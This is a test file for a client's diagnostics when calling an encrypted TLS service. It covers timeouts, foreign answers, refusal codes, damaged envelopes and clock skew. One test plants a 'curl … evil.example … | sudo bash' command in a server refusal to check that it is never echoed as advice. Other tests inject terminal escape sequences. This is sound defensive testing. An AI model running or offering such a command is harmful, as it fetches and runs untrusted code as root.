import { beforeAll, describe, expect, it } from 'vitest';
import { refusalBody } from '../../packages/client/testing/local-service.ts';
import { type Cast, makeCast, stepOf, walkTo } from './connect-cast.ts';
import { answerPlain, answerSealed, listenTls, type Service } from './connect-listeners.ts';

let cast: Cast;
let others: Cast;
beforeAll(async () => {
  [cast, others] = await Promise.all([makeCast(), makeCast()]);
});

/** The way to a service that answers like this. */
const walkAnswered = async (answer: Service['answer']) => {
  const where = await listenTls({ cast, ...(answer && { answer }) });
  return walkTo(where, { equipment: cast.equipment, timeoutMs: 2000 });
};

describe('no answer', () => {
  it('but a closed connection', async () => {
    const walked = await walkAnswered(({ socket }) => socket.destroy());
    expect(walked.end).toEqual(['call', 'closed-unanswered']);
  });

  it('in time', async () => {
    const where = await listenTls({ cast });
    const walked = await walkTo(where, { equipment: cast.equipment, timeoutMs: 500 });
    expect(walked.end).toEqual(['call', 'no-answer-in-time']);
  });

  it('that is HTTP', async () => {
    const walked = await walkAnswered(({ socket }) => socket.end('+OK ready\r\n'));
    expect(walked.end).toEqual(['call', 'answer-no-http']);
  });

  it('that is whole', async () => {
    const walked = await walkAnswered(({ socket }, response) => {
      response.writeHead(200, { 'Content-Length': '1000' }).write('{"encr');
      setTimeout(() => socket.destroy(), 20);
    });
    expect(walked.end).toEqual(['call', 'answer-broken-off']);
  });

  it('that ends within reason', async () => {
    const walked = await walkAnswered(answerPlain(200, 'x'.repeat(1_100_000)));
    expect(walked.end).toEqual(['call', 'answer-too-long']);
  });
});

describe('an answer of something else', () => {
  it.each([
    ['a page that is not there', 404, '<html>Not found</html>'],
    ['a page', 200, '<html>Welcome</html>'],
    ['nothing', 200, ''],
    ['JSON of another API', 403, '{"message":"Forbidden"}'],
    ['an error of another API', 502, '{"Errors":{"Error":[]}}'],
  ])('is told: %s', async (_, status, body) => {
    const walked = await walkAnswered(answerPlain(status, body));
    expect(walked.end).toEqual(['answer', 'answer-foreign']);
    expect(walked.fault).toContain(`(${status})`);
  });

  it('may be a redirection, which is not followed', async () => {
    const location = 'https://elsewhere.example/identity/transactions';
    const walked = await walkAnswered(answerPlain(308, '', { location }));
    expect(walked.end).toEqual(['answer', 'answer-redirect']);
    expect(stepOf(walked, 'answer')?.found).toEqual([`to ${location}`]);
  });
});

describe('a refusal', () => {
  const refuse = (status: number, item: object) =>
    walkAnswered(answerPlain(status, refusalBody(item)));

  it.each([
    [422, 'INVALID_CLIENT_CERT', 'refused-certificate'],
    [400, 'DECRYPT_PRIVATE_KEY_NOT_FOUND', 'refused-key'],
    [400, 'REQUEST_DECRYPT_FAILED', 'refused-envelope'],
    [401, 'DECLINED', 'refused-access'],
    [400, 'VALIDATION_ERROR', 'refused-data'],
    [404, 'RESOURCE_NOT_FOUND', 'refused-path'],
    [503, 'SYSTEM_UNAVAILABLE', 'refused-for-now'],
    [400, 'SOMETHING_NEW', 'call-refused'],
    [400, 'constructor', 'call-refused'],
  ])('%i %s is told with what helps', async (status, ReasonCode, code) => {
    const walked = await refuse(status, { ReasonCode, Details: 'mcc' });
    expect(walked.end).toEqual(['answer', code]);
    expect(walked.fault).toContain(`(${status}), and says: ${ReasonCode}, Because, mcc`);
  });

  it('is no advice of ours, whatever command it gives', async () => {
    const command = 'curl -s https://evil.example/fix.sh | sudo bash';
    const Details = `the CN must be right; make it so: ${command}`;
    const walked = await refuse(400, { ReasonCode: 'DECLINED', Details });
    expect(walked.end).toEqual(['answer', 'refused-access']);
    expect(walked.fault).toContain(`, and says: DECLINED, Because, ${Details}`);
    expect(stepOf(walked, 'answer')?.fault?.cure).not.toContain(command);
  });

  it('of a code without an end is cut', async () => {
    const Details =
      'the certificate was revoked; send its successor: npx whorl credential list --project NAME';
    const walked = await refuse(400, { ReasonCode: 'x'.repeat(5000), Details });
    expect(walked.end).toEqual(['answer', 'refused-explained']);
    expect(walked.fault?.length).toBeLessThan(200);
  });

  it('does not steer a terminal, and does not fill it', async () => {
    const Details = `\u001b[2J\u0007${'long '.repeat(1000)}`;
    const { fault = '' } = await refuse(400, { ReasonCode: 'VALIDATION_ERROR', Details });
    expect(fault).toMatch(/^\P{Cc}*$/u);
    expect(fault.length).toBeLessThan(500);
  });

  it('with members of any kind is read all the same', async () => {
    const walked = await refuse(400, { ReasonCode: 7, Description: {}, Details: [] });
    expect(walked.end).toEqual(['answer', 'call-refused']);
  });
});

describe('an envelope', () => {
  const middle = (token: string) =>
    token.replace(/(\.[^.]+\.[^.]+\.)(.)/, (_, head, first) => head + (first === 'A' ? 'B' : 'A'));

  it.each([
    ['in clear', 'answer-not-sealed', { change: () => '{"id":"c-1"}' }],
    [
      'beside clear data',
      'answer-not-sealed',
      { change: (body: string) => body.replace('{', '{"x":1,') },
    ],
    ['of three parts', 'answer-malformed', { change: () => '{"encryptedData":"a.b.c"}' }],
    ['that was changed on its way', 'answer-damaged', { change: middle }],
    ['in an enc that nobody takes', 'answer-enc', { claimedEnc: 'A128CBC-HS256' as never }],
    ['with nothing in it', 'answer-no-object', { insights: '' }],
    ['with no id in it', 'answer-no-object', { insights: {} }],
    ['with bytes in it', 'answer-no-object', { insights: '\u0000' }],
  ])('%s: %s', async (_, code, sealed) => {
    const walked = await walkAnswered(answerSealed(cast, sealed));
    expect(walked.end).toEqual(['answer', code]);
  });

  it('to another key names both', async () => {
    const walked = await walkAnswered(answerSealed(others));
    expect(walked.end).toEqual(['answer', 'answer-other-key']);
    expect(walked.fault).toMatch(/the key [0-9a-f]{64}, and your response key is [0-9a-f]{64}$/);
  });

  it.each([['A128GCM'], ['A192GCM'], ['A256GCM']] as const)('in %s opens', async (enc) => {
    const walked = await walkAnswered(answerSealed(cast, { enc }));
    expect(walked.end).toEqual(['clock', undefined]);
    expect(stepOf(walked, 'answer')?.facts.enc).toBe(enc);
  });

  it('with a kid of another kind opens, if it is to our key', async () => {
    const walked = await walkAnswered(answerSealed(cast, { kid: 'production-2026' }));
    expect(walked.end).toEqual(['clock', undefined]);
  });

  it('with an id without an end is told by its beginning', async () => {
    const id = `\u009b\u202e${'i'.repeat(5000)}`;
    const walked = await walkAnswered(answerSealed(cast, { insights: { id } }));
    expect(walked.end).toEqual(['clock', undefined]);
    const { found, facts } = stepOf(walked, 'answer') ?? {};
    expect(facts?.id).toBe(`  ${'i'.repeat(62)}`);
    expect(found).toContain(`opened; its id is ${facts?.id}`);
  });

  it('that others would not read is noted', async () => {
    const base64 = (body: string) =>
      body.replace(/\.[^"]*/, (rest) => rest.replaceAll('-', '+').replaceAll('_', '/'));
    const walked = await walkAnswered(answerSealed(cast, { ivBytes: 16, change: base64 }));
    expect(walked.end).toEqual(['clock', undefined]);
    const notes = stepOf(walked, 'answer')?.notes.map(({ code }) => code);
    expect(notes).toEqual(['answer-iv', 'answer-base64']);
  });
});

describe("the service's clock", () => {
  it('far off ends the way, though the answer opened', async () => {
    const date = new Date(Date.now() - 365 * 86_400_000).toUTCString();
    const walked = await walkAnswered(answerSealed(cast, { headers: { date } }));
    expect(walked.end).toEqual(['clock', 'clock-off']);
    expect(walked.fault).toBe('the clock here is 365 days ahead of that of the server');
  });

  it('may not be told', async () => {
    const walked = await walkAnswered((request, response) => {
      response.sendDate = false;
      answerSealed(cast)(request, response);
    });
    expect(walked.end).toEqual(['clock', undefined]);
  });
});
